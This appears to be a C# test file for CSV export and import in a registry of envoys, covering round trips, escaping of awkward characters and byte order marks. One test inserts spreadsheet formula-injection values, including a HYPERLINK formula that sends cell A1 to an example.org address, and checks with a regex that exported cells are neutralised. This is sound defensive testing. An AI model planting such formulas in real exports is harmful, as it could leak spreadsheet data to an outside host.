using System.Text.RegularExpressions;
using EnvoyRegistry.Commands;
using EnvoyRegistry.People;
using EnvoyRegistry.Tests.Data;
using Microsoft.EntityFrameworkCore;

namespace EnvoyRegistry.Tests.Commands;

public sealed class PeopleExportTests : IDisposable
{
    readonly ImportDesk _desk = new();

    public void Dispose() => _desk.Dispose();

    [Fact]
    public void The_sample_comes_back_as_it_was_and_an_empty_register_gives_the_same_bytes()
    {
        using var sample = new TemporaryRegister(FirstStart.Sample(ImportDesk.Today));
        using var desk = new ImportDesk(sample);
        desk.Export("people.csv", "windows.csv");
        var matched = desk.MatchVersion();

        var counts = desk.ImportFiles("people.csv", "windows.csv");
        desk.Faults.ShouldBeEmpty();
        counts.ShouldBe(new ImportCounts(New: 0, Changed: 0, Unchanged: 300, PeopleWithOtherWindows: 0));
        desk.MatchVersion().ShouldBe(matched);

        using var other = new ImportDesk();
        var (people, windows) = (File.ReadAllBytes(desk.Path("people.csv")),
            File.ReadAllBytes(desk.Path("windows.csv")));
        other.Import(people, windows);
        other.Faults.ShouldBeEmpty();
        other.Export("people.csv", "windows.csv");
        File.ReadAllBytes(other.Path("people.csv")).ShouldBe(people);
        File.ReadAllBytes(other.Path("windows.csv")).ShouldBe(windows);
    }

    [Fact]
    public void Contacts_consents_registrations_and_engagements_come_back_in_an_empty_register()
    {
        var people = Sheet.People(
            Sheet.Eep("A", "TH", "TH", (AnnexColumn.ConsentEdition, "2"), (AnnexColumn.Email, "a@example.org"),
                (AnnexColumn.Phones, "+44 20 7946 0001;+44 20 7946 0002"), (AnnexColumn.PostalAddress, "1 Road\nTown"),
                (AnnexColumn.AssistantName, "An Office"), (AnnexColumn.AssistantEmail, "office@example.org"),
                (AnnexColumn.RegisteredOn, "2021-03-04"),
                (AnnexColumn.PastRegistrations, "TH:2014-01-01:2016-12-31:WITHDRAWN_BY_EEP")),
            Sheet.Person("B", (AnnexColumn.ConsentedOn, ""), (AnnexColumn.ConsentEdition, ""),
                (AnnexColumn.ConsentEvidence, ""), (AnnexColumn.Email, "b@example.org")));
        var engagements = $"""
            {string.Join(',', EngagementColumn.All)}
            A,MEDIATOR,Head of the talks,Lake talks,KH;TH,TH,2012-07,2013,Led them.,CERTAIN,PRESS,A1;B1,
            A,ADVISER,Adviser,,,,2019,,Gave advice.,UNCERTAIN,,,A letter of thanks

            """;
        File.WriteAllText(_desk.Path("engagements.csv"), engagements);
        File.WriteAllText(_desk.Path("people.csv"), people);
        _desk.ImportFiles("people.csv", null, engagements: "engagements.csv");
        _desk.Faults.ShouldBeEmpty();
        _desk.ImportFiles("people.csv", null, engagements: "engagements.csv")!.Value.Unchanged.ShouldBe(2);
        _desk.Export("people.csv", null, engagements: "engagements.csv");
        File.ReadAllText(_desk.Path("engagements.csv")).ShouldBe(engagements.TrimEnd() + "\n");

        using var other = new ImportDesk();
        foreach (var file in (string[])["people.csv", "engagements.csv"])
            File.Copy(_desk.Path(file), other.Path(file));
        other.ImportFiles("people.csv", null, engagements: "engagements.csv")!.Value.Waiting.ShouldBe(1);
        other.Faults.ShouldBeEmpty();
        other.Export("again.csv", null, engagements: "engagements-again.csv");

        File.ReadAllText(other.Path("again.csv")).ShouldBe(File.ReadAllText(_desk.Path("people.csv")));
        File.ReadAllText(other.Path("engagements-again.csv")).ShouldBe(File.ReadAllText(_desk.Path("engagements.csv")));
        other.Person("A").Registrations.Select(r => (r.From, r.Until, r.ConsentTextEdition)).Order().ShouldBe(
        [
            (new DateOnly(2014, 1, 1), new DateOnly(2016, 12, 31), null), (new DateOnly(2021, 3, 4), null, 2),
        ]);
        other.Person("B").Status.ShouldBe(PersonStatus.ConsentPending);
    }

    [Fact]
    public void What_is_hard_to_write_in_a_cell_comes_back()
    {
        var sheet = Sheet.People(Sheet.Person("Ünï-1; \"2\"",
            (PersonColumn.FullName, "Ma. \"Lina\" Reyes-O'Brien, Jr."),
            (PersonColumn.FormerOffices, @"OTHER:Head of unit\; section 3: talks;OTHER:C:\\drive"),
            (PersonColumn.Biography, "'- one\n'- two; \"three\", four\n\n\\five")));
        _desk.Imported(sheet);
        _desk.Person("Ünï-1; \"2\"").Biography.ShouldBe("- one\n- two; \"three\", four\n\n\\five");

        _desk.Export("out.csv");

        File.ReadAllText(_desk.Path("out.csv")).ShouldBe(sheet);
        _desk.Person("Ünï-1; \"2\"").FormerOffices.OrderBy(o => o.Position).Select(o => o.Title).ShouldBe(
            ["Head of unit; section 3: talks", @"C:\drive"]);
    }

    [Fact]
    public void No_cell_begins_a_formula_and_every_cell_comes_back()
    {
        const string Formula = "=HYPERLINK(\"http://example.org/\"&A1,\"Zaleha\")";
        _desk.Imported(Sheet.People(Sheet.Person("A")), Sheet.Windows(Sheet.Window("A", "2027-01-01", "2027-01-31")));
        using (var db = _desk.Register.Open())
        using (var transaction = db.Database.BeginTransaction())
        {
            db.Database.ExecuteSql($"""
                UPDATE "Person" SET "ExternalReference" = {Formula}, "FullName" = {Formula}, "Title" = {"@cmd"},
                    "NativeName" = {"＝1+1"}, "Biography" = {"+one;=two\n-three, \"=four\""}
                WHERE "ExternalReference" = {"A"}
                """);
            db.RefreshDerivedRows();
            transaction.Commit();
        }

        _desk.Export("out.csv", "windows.csv");

        var (people, windows) = (File.ReadAllText(_desk.Path("out.csv")), File.ReadAllText(_desk.Path("windows.csv")));
        foreach (var text in (string[])[people, windows])
            Regex.IsMatch(text, "(?:^|[,;\\t|\\r\\n])[\\s\"]*[=+@＝-]", RegexOptions.NonBacktracking)
                .ShouldBeFalse(text);
        _desk.ImportFiles("out.csv", "windows.csv")
            .ShouldBe(new ImportCounts(New: 0, Changed: 0, Unchanged: 1, PeopleWithOtherWindows: 0));
    }

    [Fact]
    public void The_historical_record_is_left_out()
    {
        _desk.Export("out.csv");

        File.ReadAllLines(_desk.Path("out.csv")).ShouldHaveSingleItem()
            .ShouldStartWith("external_reference,kind,title,full_name,");
    }

    [Fact]
    public void A_byte_order_mark_is_written_when_asked_for_and_read_by_an_import()
    {
        _desk.Imported(Sheet.People(Sheet.Person("A")));

        _desk.Export("out.csv", withMark: true);

        File.ReadAllBytes(_desk.Path("out.csv"))[..3].ShouldBe((byte[])[0xEF, 0xBB, 0xBF]);
        _desk.ImportFiles("out.csv", null)!.Value.Unchanged.ShouldBe(1);
    }
}
